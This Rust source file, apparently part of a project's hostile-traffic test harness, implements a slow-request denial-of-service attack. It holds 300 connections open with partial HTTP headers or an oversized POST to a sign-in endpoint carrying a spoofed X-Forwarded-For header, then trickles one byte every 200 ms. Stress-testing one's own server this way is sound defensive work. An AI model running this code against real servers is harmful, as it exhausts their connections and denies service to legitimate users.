//! Requests that come byte by byte.

use anyhow::Result;
use tokio::{
    net::TcpStream,
    time::{Duration, Instant, sleep},
};

use crate::hostile::target::{ATTACKER, Target, open, send_all};

const CONNECTIONS: usize = 300;

pub(super) async fn headers(target: &mut Target) -> Result<()> {
    let beginning = format!("GET / HTTP/1.1\r\nHost: {}\r\nX-Slow: ", target.server);
    trickle(target, &beginning).await
}

pub(super) async fn bodies(target: &mut Target) -> Result<()> {
    let server = target.server;
    let beginning = format!(
        "POST /fn/sign_in HTTP/1.1\r\nHost: {server}\r\nOrigin: http://{server}\r\nX-Forwarded-For: {ATTACKER}\r\n\
         Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 60000\r\n\r\nlogin="
    );
    trickle(target, &beginning).await
}

async fn trickle(target: &mut Target, beginning: &str) -> Result<()> {
    let until = target.until();
    let mut streams: Vec<TcpStream> = Vec::new();
    for _ in 0..CONNECTIONS {
        if let Some(stream) = open(target.server).await
            && send_all(&stream, beginning.as_bytes()).await.is_ok()
        {
            streams.push(stream);
        }
    }
    while Instant::now() < until {
        streams.iter().for_each(|stream| drop(stream.try_write(b"a")));
        sleep(Duration::from_millis(200)).await;
    }
    target.note(format!("{} connected", streams.len()));
    target.held.extend(streams.into_iter().map(|stream| Box::new(stream) as _));
    Ok(())
}
